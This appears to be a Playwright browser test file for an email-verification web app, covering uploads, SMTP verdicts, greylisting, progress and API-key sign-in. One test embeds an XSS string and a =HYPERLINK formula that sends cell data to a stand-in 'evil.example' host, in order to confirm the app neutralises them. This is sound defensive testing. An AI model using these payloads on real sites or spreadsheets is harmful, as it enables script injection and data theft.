import type { Browser } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { type System, startSystem } from '../system.fixture.ts';
import { openTab, startBrowser } from './browser.fixture.ts';
import { findBrowser } from './installed.fixture.ts';
import { download, shownAddresses, start, untilCompleted, upload } from './screens.fixture.ts';

const KEY = 'a-key-of-the-browser-tests-01';
const MOST_FIRST_BYTES = 100_000;

describe.skipIf(findBrowser() === null)('the page', () => {
  let system: System;
  let browser: Browser;
  beforeAll(async () => {
    system = await startSystem({ workers: 1 });
    browser = await startBrowser();
  }, 120_000);

  it('comes with less than 100 kB, compressed, and nothing of another host', async () => {
    const { page, faults, received } = await openTab(browser, system.url);
    await page.goto('/', { waitUntil: 'networkidle' });
    await page.getByRole('heading', { level: 1 }).waitFor();
    const bytes = [...received.values()].reduce((sum, size) => sum + size, 0);
    expect([...received.keys()].filter((path) => /\.(?:js|css)$/.test(path)).length).toBeGreaterThanOrEqual(2);
    expect(bytes).toBeGreaterThan(10_000);
    expect(bytes).toBeLessThan(MOST_FIRST_BYTES);
    expect(faults).toEqual([]);
  });

  it.each([
    ['user.one@exists.test', 'Passed', 'Mailbox exists', true],
    ['unknown.one@exists.test', 'Failed', 'Mailbox does not exist', true],
    ['user@blocked-rcpt.test', 'Unknown', 'Inconclusive', true],
    ['no address', 'Failed', 'Not an email address', false],
    ['someone@no-such-domain.test', 'Failed', 'Domain does not exist', false],
  ])('checks %s: %s', async (email, status, event, isAsked) => {
    const { page, faults } = await openTab(browser, system.url);
    await page.goto('/check');
    await page.getByLabel('Email address').fill(email);
    await page.getByLabel('Email address').press('Enter');
    await page.getByRole('heading', { name: event }).waitFor();
    expect(await page.locator('.verdict-status').textContent()).toBe(status);
    await page.getByRole('heading', { name: 'The conversation' }).waitFor();
    expect(await page.getByText(`RCPT TO:<${email}>`, { exact: true }).count()).toBe(isAsked ? 1 : 0);
    expect(faults).toEqual([]);
  });

  it('waits for an address whose server greylists, and has its verdict then', async () => {
    const { page, faults } = await openTab(browser, system.url);
    await page.goto('/check');
    await page.getByLabel('Email address').fill('user.grey@greylist.test');
    await page.getByRole('button', { name: 'Check', exact: true }).click();
    await page.getByRole('heading', { name: 'The conversation' }).waitFor();
    expect(['Passed', 'Unknown']).toContain(await page.locator('.verdict-status').textContent());
    expect(faults).toEqual([]);
  });

  it('shows what a cell holds as text, and disarms formulas for spreadsheets', async () => {
    const { page, faults } = await openTab(browser, system.url);
    const script = '<script>document.title="owned"</script><img src=x onerror=alert(1)>';
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"click")';
    const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
    const text = [
      'note,email',
      `${cell(script)},user.a@exists.test`,
      `${cell(formula)},user.b@exists.test`,
      `x,${cell(script)}`,
      '',
    ].join('\n');
    await page.goto('/');
    await upload(page, { name: `${script}.csv`, text });
    expect(await page.getByRole('cell', { name: script }).first().textContent()).toBe(script);
    await start(page);
    await untilCompleted(page);
    expect(await shownAddresses(page)).toContain(script);
    await page.getByRole('button', { name: 'Details of row 1', exact: true }).click();
    await page.getByRole('listitem').filter({ hasText: 'onerror' }).waitFor();
    expect(await page.title()).not.toBe('owned');
    expect(await page.locator('img, main script, iframe').count()).toBe(0);
    expect(await download(page, /^Everything/)).toContain(`${cell(formula)},user.b@exists.test`);
    await page.getByLabel(/For Excel or Sheets/).check();
    const disarmed = await download(page, /^Everything/);
    expect(disarmed).toContain('HYPERLINK');
    expect(disarmed).not.toMatch(/(?:^|[,"])=HYPERLINK/m);
    expect(faults).toEqual([]);
  });

  it('lets a person put right how their file is read', async () => {
    const { page, faults } = await openTab(browser, system.url);
    await page.goto('/');
    await upload(page, { name: 'two.csv', text: 'email;second\nuser.a@exists.test;user.b@unknown.test\n' });
    await page.getByLabel('Column with the addresses').selectOption('2');
    await page.getByLabel('The first row names the columns').uncheck();
    await page.getByRole('cell', { name: 'second' }).waitFor();
    await page.getByLabel('The first row names the columns').check();
    await page.getByRole('cell', { name: 'second' }).waitFor({ state: 'detached' });
    await start(page);
    await untilCompleted(page);
    expect(await shownAddresses(page)).toEqual(['user.b@unknown.test']);
    expect(faults).toEqual([]);
  });

  it('makes every change of a person in a hurry, and starts with the last', async () => {
    const { page, faults } = await openTab(browser, system.url);
    await page.goto('/');
    await upload(page, { name: 'hurry.csv', text: 'email;second\nuser.a@exists.test;user.b@unknown.test\n' });
    let answer = () => {};
    const slow = new Promise<void>((resolve) => {
      answer = resolve;
    });
    await page.route(/[?&]hasHeader=/, async (route) => {
      await slow;
      await route.continue();
    });
    const header = page.getByLabel('The first row names the columns');
    await header.uncheck();
    await page.getByLabel('Column with the addresses').selectOption('2');
    await header.check();
    answer();
    await start(page);
    await untilCompleted(page);
    expect(await shownAddresses(page)).toEqual(['user.b@unknown.test']);
    expect(faults).toEqual([]);
  });

  it('tells how far a transfer is, and leaves nothing of one that is canceled', async () => {
    const { page, faults } = await openTab(browser, system.url);
    await page.goto('/');
    const line = await page.context().newCDPSession(page);
    const slow = { offline: false, latency: 0, downloadThroughput: -1, uploadThroughput: 200_000 };
    await line.send('Network.emulateNetworkConditions', slow);
    const buffer = Buffer.from(`email\n${'user.slow@exists.test\n'.repeat(200_000)}`);
    await page.getByLabel('Choose a list to upload').setInputFiles({ name: 'slow.csv', mimeType: 'text/csv', buffer });
    await page.getByText(/^[1-9]\d? % of 4\.\d MB/).waitFor();
    await page.getByRole('button', { name: 'Cancel' }).click();
    await page.getByRole('button', { name: 'Choose a file' }).waitFor();
    await page.goto('/lists');
    await page.getByRole('heading', { name: 'Lists' }).waitFor();
    expect(await page.getByRole('link', { name: 'slow.csv' }).count()).toBe(0);
    expect(faults).toEqual([]);
  });

  it('follows a list by asking where no events come through', async () => {
    const { page } = await openTab(browser, system.url);
    await page.route('**/v1/lists/*/events', (route) => route.fulfill({ status: 502, body: 'Bad gateway' }));
    await page.goto('/');
    await upload(page, { name: 'polled.csv', text: 'email\nuser.q@exists.test\nuser.q@greylist.test\n' });
    await start(page);
    await untilCompleted(page);
    expect(await shownAddresses(page)).toEqual(['user.q@exists.test', 'user.q@greylist.test']);
  });

  it('takes pasted addresses', async () => {
    const { page, faults } = await openTab(browser, system.url);
    await page.goto('/');
    await page.getByLabel('Or paste addresses').fill('user.p@exists.test\nunknown.p@exists.test\n');
    await page.getByRole('button', { name: 'Use these' }).click();
    await page.getByRole('button', { name: 'Start verifying' }).waitFor();
    await start(page);
    await untilCompleted(page);
    expect(await shownAddresses(page)).toEqual(['user.p@exists.test', 'unknown.p@exists.test']);
    expect(faults).toEqual([]);
  });

  it('says what is wrong with a file, and asks for the column it cannot tell', async () => {
    const { page } = await openTab(browser, system.url);
    await page.goto('/');
    const file = (name: string, text: string) => ({ name, mimeType: 'text/csv', buffer: Buffer.from(text) });
    await page.getByLabel('Choose a list to upload').setInputFiles(file('empty.csv', ''));
    await page.getByRole('alert').waitFor();
    await page.getByRole('button', { name: 'Choose another file' }).click();
    await page.getByLabel('Choose a list to upload').setInputFiles(file('none.csv', 'first,second\n1,2\n3,4\n'));
    await page.getByLabel('Which column holds the addresses?').selectOption('2');
    await page.getByRole('button', { name: 'Use this column' }).click();
    await page.getByRole('button', { name: 'Start verifying' }).waitFor();
  });
});

describe.skipIf(findBrowser() === null)('the page of a server with keys', () => {
  it('asks for one, keeps a cookie in its place, and forgets it when told', async () => {
    const system = await startSystem({ workers: 1, env: { API_KEYS: KEY } });
    const { page } = await openTab(await startBrowser(), system.url);
    await page.goto('/lists');
    await page.getByLabel('API key').fill('wrong-key-of-the-browser-test');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByText('does not know this key').waitFor();
    await page.getByLabel('API key').fill(KEY);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByText('There are no lists yet').waitFor();
    await page.goto('/');
    await upload(page, { name: 'kept.csv', text: 'email\nuser.k@exists.test\n' });
    await page.goto('/lists');
    await page.getByRole('link', { name: 'kept.csv' }).waitFor();
    expect(await page.evaluate('document.cookie')).toBe('');
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByLabel('API key').waitFor();
    await page.reload();
    await page.getByLabel('API key').waitFor();
  });
});
